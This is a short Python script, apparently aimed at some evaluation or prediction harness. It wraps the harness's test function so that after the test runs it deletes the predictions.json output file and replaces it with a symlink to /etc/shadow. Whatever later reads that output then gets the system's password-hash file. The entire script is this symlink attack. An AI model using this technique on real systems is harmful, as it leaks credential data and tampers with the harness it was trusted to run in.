import os

import main

original = main.test


def test() -> None:
    original()
    os.unlink(f"{main.VOLUME}/predictions.json")
    os.symlink("/etc/shadow", f"{main.VOLUME}/predictions.json")


main.test = test

main.run()
